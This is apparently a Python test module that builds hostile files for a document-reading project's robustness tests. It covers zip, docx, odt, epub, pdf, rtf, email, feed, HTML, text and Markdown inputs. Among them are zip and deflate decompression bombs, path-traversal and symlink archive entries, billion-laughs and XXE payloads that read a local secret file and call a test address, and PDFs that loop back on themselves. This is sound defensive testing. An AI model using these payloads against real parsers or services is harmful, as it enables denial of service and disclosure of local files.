"""Hostile files, made on the fly: each kind aims at a weakness that readers of its format have had.

Every kind is a function of ``share``, the part of its full size to make (1.0 in the long form, less in a hurry). Kinds
that name something outside of themselves name ``Outside``: a file with a secret and an address that listens.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from tests.article import documents as make
from tests.article.pdf_writer import assembled, pdf

STORY = "\n\n".join([make.HEADLINE, *make.PARAGRAPHS]).encode()
SECRET = "the secret of the file beside"
MB = 1_000_000


@dataclass(frozen=True)
class Outside:
    """What hostile files try to reach."""

    file: str
    address: str


Maker = Callable[[float, Outside], bytes]
KINDS: dict[str, tuple[str, Maker]] = {}
"""The name of the file and its maker, by kind."""


def kind(name: str) -> Callable[[Maker], Maker]:
    def register(maker: Maker) -> Maker:
        KINDS[maker.__name__] = (name, maker)
        return maker

    return register


# Zip archives


def deflated_zeros(size: int, letter: bytes = b"\0") -> tuple[bytes, int]:
    """Return ``size`` equal bytes as a deflate stream, and their checksum."""
    chunk = letter * MB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(size, MB)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = last.compress(letter * rest) + last.flush()
    checksum = 0
    for _ in range(whole):
        checksum = zlib.crc32(chunk, checksum)
    return block * whole + end, zlib.crc32(letter * rest, checksum)


@dataclass
class Entry:
    """A member of a zip file, with whatever lies its headers tell."""

    name: bytes
    data: bytes
    packed: int = 8
    size: int = 0
    crc: int = 0
    flags: int = 0
    offset: int | None = None
    attributes: int = 0


def raw_zip(entries: Iterable[Entry], *, count: int | None = None) -> bytes:
    made, directory = bytearray(), bytearray()
    number = 0
    for entry in entries:
        number += 1
        offset = len(made) if entry.offset is None else entry.offset
        fields = (entry.flags, entry.packed, 0, 33, entry.crc, len(entry.data), entry.size, len(entry.name), 0)
        if entry.offset is None:
            made += b"PK\x03\x04" + struct.pack("<HHHHHLLLHH", 20, *fields) + entry.name + entry.data
        directory += b"PK\x01\x02" + struct.pack("<HHHHHHLLLHH", 20, 20, *fields)
        directory += struct.pack("<HHHLL", 0, 0, 0, entry.attributes, offset) + entry.name
    start = len(made)
    count = number if count is None else count
    return (
        bytes(made + directory) + b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), start, 0)
    )


def bomb(name: str, size: int, letter: bytes = b"a") -> Entry:
    data, checksum = deflated_zeros(size, letter)
    return Entry(name.encode(), data, size=size, crc=checksum)


def stored(name: str, data: bytes = STORY) -> Entry:
    return Entry(name.encode(), data, packed=0, size=len(data), crc=zlib.crc32(data))


@kind("a.zip")
def zip_of_one_gigabyte(share: float, outside: Outside) -> bytes:
    return raw_zip([bomb("a.txt", int(1000 * MB * share))])


@kind("a.zip")
def zip_of_many_middling_bombs(share: float, outside: Outside) -> bytes:
    return raw_zip([bomb(f"{n}.txt", 9 * MB) for n in range(30)])


@kind("a.zip")
def zip_of_zips_of_bombs(share: float, outside: Outside) -> bytes:
    inner = raw_zip([bomb(f"{n}.txt", 9 * MB) for n in range(20)])
    return raw_zip([stored(f"{n}.zip", inner) for n in range(30)])


@kind("a.zip")
def zip_in_zip_in_zip(share: float, outside: Outside) -> bytes:
    data = raw_zip([stored("a.txt")])
    for depth in range(100):
        data = raw_zip([stored(f"{depth}.zip", data)])
    return data


@kind("a.zip")
def zip_whose_members_share_one_body(share: float, outside: Outside) -> bytes:
    body = bomb("a.txt", 9 * MB)
    others = [Entry(b"%d.txt" % n, body.data, size=body.size, crc=body.crc, offset=0) for n in range(10)]
    return raw_zip([body, *others])


@kind("a.zip")
def zip_that_lies_of_sizes(share: float, outside: Outside) -> bytes:
    entry = bomb("a.txt", int(300 * MB * share))
    entry.size = 5_000
    return raw_zip([entry, stored("good.txt")])


@kind("a.zip")
def zip_with_sixty_thousand_entries(share: float, outside: Outside) -> bytes:
    return raw_zip(Entry(b"%d.txt" % n, b"", packed=0, offset=0) for n in range(60_000))


@kind("a.zip")
def zip_that_lies_of_its_count(share: float, outside: Outside) -> bytes:
    return raw_zip([Entry(b"%d.txt" % n, b"", packed=0, offset=0) for n in range(60_000)], count=1)


@kind("a.zip")
def zip64_with_an_endless_directory(share: float, outside: Outside) -> bytes:
    data = raw_zip([stored("a.txt")])
    at = len(data) - 22
    end64 = b"PK\x06\x06" + struct.pack("<QHHLLQQQQ", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, 1 << 50, 0)
    return data[:at] + end64 + b"PK\x06\x07" + struct.pack("<LQL", 0, at, 1) + data[at:]


@kind("a.zip")
def zip_that_climbs_out(share: float, outside: Outside) -> bytes:
    names = ["../../out.txt", "/tmp/out.txt", "a/../../out.txt", "..\\out.txt", "\\\\host\\out.txt", outside.file]
    return raw_zip([*(stored(name) for name in names), stored("good.txt")])


@kind("a.zip")
def zip_with_names_of_devices(share: float, outside: Outside) -> bytes:
    names = [
        "con.txt",
        "NUL",
        "aux.html",
        "a/lpt1.txt",
        "a:stream.txt",
        "C:a.txt",
        "dot.txt.",
        "space.txt ",
        "b\nc.txt",
    ]
    return raw_zip([*(stored(name) for name in names), stored("good.txt")])


@kind("a.zip")
def zip_with_links(share: float, outside: Outside) -> bytes:
    link = stored("secret.txt", outside.file.encode())
    link.attributes = (stat.S_IFLNK | 0o777) << 16
    return raw_zip([link, stored("good.txt")])


@kind("a.zip")
def zip_with_one_name_in_two_cases(share: float, outside: Outside) -> bytes:
    return raw_zip([stored("a.txt"), stored("A.TXT", b"other words"), stored("straße.txt"), stored("STRASSE.txt")])


@kind("a.zip")
def zip_locked(share: float, outside: Outside) -> bytes:
    entry = stored("a.txt")
    entry.flags = 1
    return raw_zip([entry])


@kind("a.zip")
def zip_packed_with_lzma(share: float, outside: Outside) -> bytes:
    return raw_zip([Entry(b"a.txt", b"\x09\x04\x05\x00\x5d\xff\xff\xff\xff" + b"\0" * 50, packed=14, size=90)])


@kind("a.zip")
def zip_cut_off(share: float, outside: Outside) -> bytes:
    return raw_zip([stored("a.txt"), stored("b.txt")])[:-30]


@kind("a.zip")
def zip_of_noise(share: float, outside: Outside) -> bytes:
    return b"PK\x03\x04" + random.Random(1).randbytes(100_000) + b"PK\x05\x06" + random.Random(2).randbytes(18)


@kind("a.zip")
def zip_with_a_name_that_ends_early(share: float, outside: Outside) -> bytes:
    return raw_zip([stored("a.txt\0.exe"), stored("good.txt")])


# Word, OpenDocument, EPUB

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
DOCTYPE = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'


def reaching(outside: Outside) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{outside.address}/x.dtd" [<!ENTITY % p SYSTEM "{outside.address}/p"> %p; '
        f'<!ENTITY f SYSTEM "file://{outside.file}">]>'
    )


def docx_of(document: str | bytes) -> bytes:
    return make.zipped({"word/document.xml": document})


def word(body: str, before: str = "") -> bytes:
    return docx_of(f'<?xml version="1.0"?>{before}<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>')


@kind("a.docx")
def docx_of_one_gigabyte(share: float, outside: Outside) -> bytes:
    return raw_zip([bomb("word/document.xml", int(990 * MB * share))])


@kind("a.docx")
def docx_that_lies_of_its_size(share: float, outside: Outside) -> bytes:
    entry = bomb("word/document.xml", int(990 * MB * share))
    entry.size = 1000
    return raw_zip([entry])


@kind("a.docx")
def docx_of_a_million_paragraphs(share: float, outside: Outside) -> bytes:
    numbers = random.Random(1)
    return word("".join(f"<w:p><w:t>{numbers.random()}</w:t></w:p>" for _ in range(int(1_000_000 * share))))


@kind("a.docx")
def docx_with_a_bomb_of_entities(share: float, outside: Outside) -> bytes:
    return word("<w:p><w:t>&l10;</w:t></w:p>", DOCTYPE)


@kind("a.docx")
def docx_with_a_long_entity_many_times(share: float, outside: Outside) -> bytes:
    return word(f"<w:p><w:t>{'&a;' * 50_000}</w:t></w:p>", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


@kind("a.docx")
def docx_that_reaches_out(share: float, outside: Outside) -> bytes:
    return word("<w:p><w:t>&f;</w:t></w:p>", reaching(outside))


@kind("a.docx")
def docx_that_hides_its_entities_in_utf16(share: float, outside: Outside) -> bytes:
    text = f'<?xml version="1.0" encoding="utf-16"?>{reaching(outside)}<w:document xmlns:w="w">&f;</w:document>'
    return docx_of(text.encode("utf-16"))


@kind("a.docx")
def docx_with_deep_elements(share: float, outside: Outside) -> bytes:
    deep = int(500_000 * share)
    return word("<w:p>" * deep + "<w:t>x</w:t>" + "</w:p>" * deep)


@kind("a.docx")
def docx_with_a_flood_of_attributes(share: float, outside: Outside) -> bytes:
    flood = " ".join(f'a{n}="{n}"' for n in range(int(200_000 * share)))
    return word(f"<w:p {flood}><w:t>{make.PARAGRAPHS[0]}</w:t></w:p>")


@kind("a.docx")
def docx_with_many_namespaces(share: float, outside: Outside) -> bytes:
    flood = " ".join(f'xmlns:a{n}="{n}"' for n in range(int(100_000 * share)))
    return word(f"<w:p {flood}><w:t>{make.PARAGRAPHS[0]}</w:t></w:p>")


@kind("a.docx")
def docx_with_one_endless_paragraph(share: float, outside: Outside) -> bytes:
    words = "".join(random.Random(1).choices("abcdefghij klmnop.", k=int(9 * MB * share)))
    return word(f"<w:p><w:t>{words}</w:t></w:p>")


@kind("a.docx")
def docx_cut_off(share: float, outside: Outside) -> bytes:
    return word("<w:p><w:t>Some words").replace(b"</w:body>", b"")


@kind("a.docx")
def docx_without_its_document(share: float, outside: Outside) -> bytes:
    return make.zipped({"word/styles.xml": "<x/>", "[Content_Types].xml": "<Types/>"})


@kind("a.docx")
def docx_of_noise_in_its_document(share: float, outside: Outside) -> bytes:
    return docx_of(random.Random(3).randbytes(100_000))


@kind("a.odt")
def odt_with_a_bomb_of_entities(share: float, outside: Outside) -> bytes:
    return make.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": f"{DOCTYPE}<x>&l10;</x>"})


@kind("a.odt")
def odt_that_reaches_out(share: float, outside: Outside) -> bytes:
    content = f"{reaching(outside)}<office:body xmlns:office='o'><p>&f;</p></office:body>"
    return make.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


@kind("a.odt")
def odt_with_deep_lists(share: float, outside: Outside) -> bytes:
    deep = int(200_000 * share)
    return make.odt("<text:list><text:list-item>" * deep + "</text:list-item></text:list>" * deep)


@kind("a.odt")
def odt_with_endless_spaces(share: float, outside: Outside) -> bytes:
    spaces = "".join(f'<text:s text:c="{"9" * (n % 30 + 1)}"/>' for n in range(int(100_000 * share)))
    return make.odt(f"<text:p>{spaces}</text:p><text:p>{make.PARAGRAPHS[0]}</text:p>")


@kind("a.epub")
def epub_of_one_gigabyte(share: float, outside: Outside) -> bytes:
    book = zipfile.ZipFile(io.BytesIO(make.epub(["x"])))
    kept = [stored(name, book.read(name)) for name in book.namelist() if not name.endswith(".xhtml")]
    return raw_zip([*kept, bomb("OEBPS/text/chapter 0.xhtml", int(1000 * MB * share))])


@kind("a.epub")
def epub_with_a_bomb_in_its_package(share: float, outside: Outside) -> bytes:
    return make.epub(["x"], **{"OEBPS/book.opf": f"{DOCTYPE}<package>&l10;</package>"})


@kind("a.epub")
def epub_with_a_bomb_in_a_chapter(share: float, outside: Outside) -> bytes:
    return make.epub(["x"], **{"OEBPS/text/chapter 0.xhtml": f"{DOCTYPE}<html><body><p>&l10;</p></body></html>"})


@kind("a.epub")
def epub_that_reaches_out(share: float, outside: Outside) -> bytes:
    package = (
        f'<package><manifest><item id="a" href="../../../../../..{outside.file}" media-type="text/html"/><item id="b" '
        f'href="{outside.address}/b" media-type="text/html"/></manifest><spine><itemref idref="a"/><itemref idref="b"/>'
        "</spine></package>"
    )
    return make.epub(["x"], **{"OEBPS/book.opf": package})


@kind("a.epub")
def epub_that_repeats_a_chapter(share: float, outside: Outside) -> bytes:
    page = "<p>" + "</p><p>".join([*make.PARAGRAPHS] * 200) + "</p>"
    spine = '<itemref idref="a"/>' * 100_000
    package = (
        '<package><manifest><item id="a" href="text/chapter%200.xhtml" media-type="text/html"/></manifest>'
        f"<spine>{spine}</spine></package>"
    )
    return make.epub([page], **{"OEBPS/book.opf": package})


@kind("a.epub")
def epub_with_deep_chapters(share: float, outside: Outside) -> bytes:
    deep = int(100_000 * share)
    return make.epub(["<div>" * deep + make.PARAGRAPHS[0] + "</div>" * deep] * 5)


# PDF


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (extra, len(data), data)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>"


def pdf_of(content: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """Make a PDF of one page: objects 4 (content), 5 (font) and those that follow."""
    page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>" % resources
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, content, FONT, *more])


@kind("a.pdf")
def pdf_that_unpacks_to_a_gigabyte(share: float, outside: Outside) -> bytes:
    data = zlib.compress(b" " * int(1000 * MB * share), 9)
    return pdf_of(stream(data, b"/Filter /FlateDecode"))


@kind("a.pdf")
def pdf_packed_several_times(share: float, outside: Outside) -> bytes:
    data = zlib.compress(zlib.compress(zlib.compress(b" " * int(1000 * MB * share), 9), 9), 9)
    return pdf_of(stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


@kind("a.pdf")
def pdf_of_noise(share: float, outside: Outside) -> bytes:
    return b"%PDF-1.7\n" + random.Random(4).randbytes(int(2 * MB * share))


@kind("a.pdf")
def pdf_cut_off(share: float, outside: Outside) -> bytes:
    data = pdf(["BT /F1 10 Tf 50 500 Td (Some words of an article that ends early.) Tj ET"] * 3)
    return data[: len(data) * 2 // 3]


@kind("a.pdf")
def pdf_whose_pages_hold_themselves(share: float, outside: Outside) -> bytes:
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"])


@kind("a.pdf")
def pdf_of_a_million_pages(share: float, outside: Outside) -> bytes:
    pages = b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * int(1_000_000 * share))
    page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, stream(b"BT (x) Tj ET")])


@kind("a.pdf")
def pdf_with_deep_arrays(share: float, outside: Outside) -> bytes:
    return pdf_of(stream(b"[" * int(500_000 * share) + b" TJ"))


@kind("a.pdf")
def pdf_with_deep_objects(share: float, outside: Outside) -> bytes:
    return pdf_of(stream(b""), b"[" * int(200_000 * share) + b"]" * int(200_000 * share), resources=b"/X 6 0 R")


@kind("a.pdf")
def pdf_whose_forms_show_each_other(share: float, outside: Outside) -> bytes:
    def form(shown: bytes) -> bytes:
        return stream(
            shown,
            b"/Type /XObject /Subtype /Form /Resources << /XObject << /A 6 0 R /B 7 0 R >> /Font << /F1 5 0 R >> >>",
        )

    calls = b"BT /F1 9 Tf (words) Tj ET " + b"/A Do /B Do " * 20
    return pdf_of(stream(b"/A Do"), form(calls), form(calls), resources=b"/XObject << /A 6 0 R >>")


@kind("a.pdf")
def pdf_with_a_million_operations(share: float, outside: Outside) -> bytes:
    return pdf_of(stream(b"BT /F1 9 Tf " + b"1 0 Td (ab) Tj " * int(500_000 * share) + b"ET"))


@kind("a.pdf")
def pdf_with_text_strewn_about(share: float, outside: Outside) -> bytes:
    numbers = random.Random(5)
    places = (
        b"1 0 0 1 %d %d Tm (word) Tj " % (numbers.randrange(600), numbers.randrange(800))
        for _ in range(int(9e4 * share))
    )
    return pdf_of(stream(b"BT /F1 9 Tf " + b"".join(places) + b"ET"))


@kind("a.pdf")
def pdf_with_impossible_numbers(share: float, outside: Outside) -> bytes:
    odd = b"1e999 -1e999 nan 0 0 99999999999999999999999999 Tm 0 Tz 1e300 Tf (words) Tj " * 1000
    return pdf_of(stream(b"BT /F1 1e308 Tf " + odd + b"/F1 -9 Tf (more) Tj [1e999 (x) --5] TJ ET"))


@kind("a.pdf")
def pdf_with_one_endless_string(share: float, outside: Outside) -> bytes:
    return pdf_of(stream(b"BT /F1 9 Tf (" + b"word " * int(1_500_000 * share) + b") Tj ET"))


@kind("a.pdf")
def pdf_whose_tables_lead_in_a_circle(share: float, outside: Outside) -> bytes:
    data = pdf_of(stream(b"BT /F1 9 Tf (words) Tj ET"))
    place = data.rindex(b"xref\n0")
    return data.replace(b"/Root", b"/Prev %d /Root" % place)


@kind("a.pdf")
def pdf_with_an_endless_table_of_letters(share: float, outside: Outside) -> bytes:
    ranges = b"".join(b"<%08x> <%08x> <0041>\n" % (n << 16, (n << 16) + 0xFFFF) for n in range(int(5_000 * share)))
    table = b"begincmap 100 beginbfrange\n" + ranges + b"endbfrange endcmap"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 7 0 R >>"
    data = stream(b"BT /F2 9 Tf <00410042> Tj ET")
    return pdf_of(data, font, stream(table), resources=b"/Font << /F2 6 0 R >>")


@kind("a.pdf")
def pdf_locked(share: float, outside: Outside) -> bytes:
    lock = b"/Encrypt << /Filter /Standard /V 5 /R 6 /O (%s) /U (%s) /P -4 >> /Root" % (b"o" * 48, b"u" * 48)
    return pdf(["BT (x) Tj ET"]).replace(b"/Root", lock)


@kind("a.pdf")
def pdf_that_reaches_out(share: float, outside: Outside) -> bytes:
    address, file = outside.address.encode(), outside.file.encode()
    action = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s) >> /AF [<< /F (%s) >>] >>" % (
        address,
        file,
    )
    data = pdf_of(stream(b"BT /F1 9 Tf (words) Tj ET", b"/F (%s) /FFilter /None" % file))
    return data.replace(b"<< /Type /Catalog /Pages 2 0 R >>", action)


# Rich text


@kind("a.rtf")
def rtf_with_deep_groups(share: float, outside: Outside) -> bytes:
    return b"{\\rtf1 " + b"{" * int(2 * MB * share) + b"words" + b"}" * int(2 * MB * share)


@kind("a.rtf")
def rtf_of_noise(share: float, outside: Outside) -> bytes:
    return b"{\\rtf1 " + random.Random(6).randbytes(int(10 * MB * share))


@kind("a.rtf")
def rtf_with_an_endless_picture(share: float, outside: Outside) -> bytes:
    return (
        b"{\\rtf1 {\\pict "
        + b"89504e470d0a1a0a\n" * int(2.5 * MB * share)
        + b"}"
        + make.rtf_text(STORY.decode()).encode()
        + b"\\par}"
    )


@kind("a.rtf")
def rtf_with_lying_lengths(share: float, outside: Outside) -> bytes:
    return b"{\\rtf1 \\bin-5 a\\bin9999999999 b\\u99999999999?\\u-99999?\\uc999999999\\fcharset999999 \\f-1 words\\par}"


@kind("a.rtf")
def rtf_of_a_million_paragraphs(share: float, outside: Outside) -> bytes:
    return b"{\\rtf1 " + b"a b\\par\n" * int(1_000_000 * share) + b"}"


@kind("a.rtf")
def rtf_with_a_million_fonts_and_styles(share: float, outside: Outside) -> bytes:
    fonts = b"".join(b"{\\f%d\\fcharset204 x;}" % n for n in range(int(200_000 * share)))
    styles = b"".join(b"{\\s%d heading 1;}" % n for n in range(int(200_000 * share)))
    return b"{\\rtf1{\\fonttbl" + fonts + b"}{\\stylesheet" + styles + b"}Some words.\\par}"


# Mails and pages saved like mails


@kind("a.eml")
def mail_in_ten_thousand_wrappers(share: float, outside: Outside) -> bytes:
    count = int(10_000 * share)
    opened = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(count))
    return b"Subject: x\nFrom: a@x.example\n" + opened + b"Content-Type: text/plain\n\nwords\n"


@kind("a.eml")
def mail_in_a_thousand_mails(share: float, outside: Outside) -> bytes:
    return b"Subject: x\nContent-Type: message/rfc822\n\n" * int(1_000 * share) + b"Subject: y\n\nwords\n"


@kind("a.eml")
def mail_with_endless_headers(share: float, outside: Outside) -> bytes:
    parens = b"(" * int(MB * share)
    return b"From: " + parens + b"\nSubject: =?utf-8?q?" + parens + b"?=\nDate: " + parens + b"\n\n" + STORY


@kind("a.eml")
def mail_with_an_endless_type(share: float, outside: Outside) -> bytes:
    parameters = b"".join(b'; p%d="(((("\n ' % n for n in range(int(100_000 * share)))
    return b"From: a@x.example\nSubject: x\nContent-Type: text/plain" + parameters + b"\n\n" + STORY


@kind("a.eml")
def mail_with_a_hundred_thousand_headers(share: float, outside: Outside) -> bytes:
    return b"".join(b"X-%d: y\n" % n for n in range(int(300_000 * share))) + b"Subject: x\n\n" + STORY


@kind("a.eml")
def mail_of_broken_base64(share: float, outside: Outside) -> bytes:
    noise = random.Random(7).randbytes(int(15 * MB * share)).replace(b"\n", b"")
    return b"Subject: x\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n" + noise


@kind("a.eml")
def mail_that_never_ends_its_parts(share: float, outside: Outside) -> bytes:
    return (
        b"Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * int(300_000 * share) + b"--b--"
    )


@kind("a.eml")
def mail_with_a_bomb_attached(share: float, outside: Outside) -> bytes:
    message = make.mail("Look", "A <a@x.example>", "See the file.")
    message.add_attachment(docx_of_one_gigabyte(share, outside), maintype="a", subtype="b", filename="../../x.docx")
    return message.as_bytes()


@kind("a.mhtml")
def mhtml_without_a_page(share: float, outside: Outside) -> bytes:
    return b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n" + b"--b\nContent-Type: x\n\n" * 1000


# Feeds


@kind("a.rss")
def feed_with_a_bomb_of_entities(share: float, outside: Outside) -> bytes:
    return f"{DOCTYPE}<rss><item><description>&l10;</description></item></rss>".encode()


@kind("a.rss")
def feed_that_reaches_out(share: float, outside: Outside) -> bytes:
    return f"{reaching(outside)}<rss><item><description>&f;</description></item></rss>".encode()


@kind("a.rss")
def feed_of_a_hundred_thousand_entries(share: float, outside: Outside) -> bytes:
    item = f"<item><title>x</title><description>{make.PARAGRAPHS[0]}</description></item>"
    return f"<rss><channel>{item * int(100_000 * share)}</channel></rss>".encode()


@kind("a.atom")
def feed_with_deep_content(share: float, outside: Outside) -> bytes:
    deep = int(300_000 * share)
    return f"<feed><entry><content type='xhtml'>{'<b>' * deep}x{'</b>' * deep}</content></entry></feed>".encode()


@kind("a.rss")
def feed_of_broken_markup(share: float, outside: Outside) -> bytes:
    return b"<rss><channel>" + b"<item><title>x</item></title>&&&;<<>" * int(100_000 * share)


# Pages


@kind("a.html")
def page_with_deep_elements(share: float, outside: Outside) -> bytes:
    return b"<div>" * int(500_000 * share) + make.PARAGRAPHS[0].encode()


@kind("a.html")
def page_with_a_flood_of_attributes(share: float, outside: Outside) -> bytes:
    return b"<p " + b" ".join(b"a%d=1" % n for n in range(int(200_000 * share))) + b">" + STORY


@kind("a.html")
def page_of_short_paragraphs(share: float, outside: Outside) -> bytes:
    return b"<p>Some words of it.</p>" * int(400_000 * share)


@kind("a.html")
def page_of_one_endless_paragraph(share: float, outside: Outside) -> bytes:
    return b"<p>" + b"Some words of it. " * int(550_000 * share)


@kind("a.html")
def page_of_open_comments(share: float, outside: Outside) -> bytes:
    return b"<!--" * int(500_000 * share) + STORY


@kind("a.html")
def page_with_an_embedded_film(share: float, outside: Outside) -> bytes:
    film = b"QUJD" * int(3 * MB * share)
    return b"<html><body><img src='data:video/mp4;base64," + film + b"'>" + make.page(make.HEADLINE).encode()


@kind("a.html")
def page_that_reaches_out(share: float, outside: Outside) -> bytes:
    remote = (
        f'<link rel=stylesheet href="{outside.address}"><img src="{outside.address}"><img src="file://{outside.file}">'
    )
    remote += f'<iframe src="{outside.address}"></iframe><script src="{outside.address}"></script>'
    return f"<html><head><base href='{outside.address}'></head><body>{remote}{make.page(make.HEADLINE)}".encode()


@kind("a.html")
def page_of_nested_tables(share: float, outside: Outside) -> bytes:
    return b"<table><tr><td>x" * int(100_000 * share) + STORY


# Text and Markdown


@kind("a.txt")
def text_of_binary_zeros(share: float, outside: Outside) -> bytes:
    return b"\0" * int(40 * MB * share)


@kind("a.txt")
def text_of_noise(share: float, outside: Outside) -> bytes:
    return random.Random(8).randbytes(int(10 * MB * share))


@kind("a.txt")
def text_without_a_break(share: float, outside: Outside) -> bytes:
    return b"a" * int(10 * MB * share)


@kind("a.txt")
def text_of_brackets_and_marks(share: float, outside: Outside) -> bytes:
    return ("(" * 16_000 + '"' * 16_000 + "😀" * 16_000 + "e" + "\u0301" * 100_000).encode() * 3


@kind("a.txt")
def text_of_one_letter_lines(share: float, outside: Outside) -> bytes:
    return b"a\n\n" * int(600_000 * share)


@kind("a.txt")
def text_written_backwards(share: float, outside: Outside) -> bytes:
    return ("\u202e" + "\u2066" * 1000 + STORY.decode() + "\u2069\u200f\ufeff" * 1000).encode()


@kind("a.md")
def markdown_of_brackets(share: float, outside: Outside) -> bytes:
    return b"[" * int(300_000 * share) + b"(x)" * 1000


@kind("a.md")
def markdown_of_deep_lists(share: float, outside: Outside) -> bytes:
    return b"".join(b"  " * n + b"- x\n" for n in range(int(800 * share)))


@kind("a.md")
def markdown_of_stars(share: float, outside: Outside) -> bytes:
    return b"*a **b _c " * int(30_000 * share)


@kind("a.md")
def markdown_with_a_bomb_of_aliases(share: float, outside: Outside) -> bytes:
    rows = b"".join(b"a%d: &a%d [%s]\n" % (n, n, b",".join([b"*a%d" % (n - 1)] * 9)) for n in range(1, 12))
    return b"---\na0: &a0 lol\n" + rows + b"title: *a11\n---\n" + STORY
